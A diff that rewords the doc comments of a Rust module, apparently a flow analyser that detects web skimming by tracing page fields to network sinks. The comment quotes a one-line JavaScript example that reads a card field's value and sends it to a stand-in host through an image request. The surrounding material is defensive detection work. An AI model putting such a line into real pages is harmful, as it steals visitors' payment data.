@@ -6,8 +6,8 @@
 //! statements is assumed, so a flow says what may happen. Work and memory are linear in the items: a node has at most 64 marks
 //! and passes each on once.
 //!
-//! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`] with the
-//! marks `Field`, `Address` and `ImageElement`, from the item of `value` to the item of `src`.
+//! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`]. It has
+//! the marks `Field`, `Address` and `ImageElement`, and goes from the item of `value` to the item of `src`.
 //!
 //! Neighbours: it reads the [stream](crate::stream) and its facts, and the browser names of [`Lexicon`]. [`of_flows`] makes
 //! facts of flows, which signals combine with others; [`AddressUse`]s go into the report and to signatures.
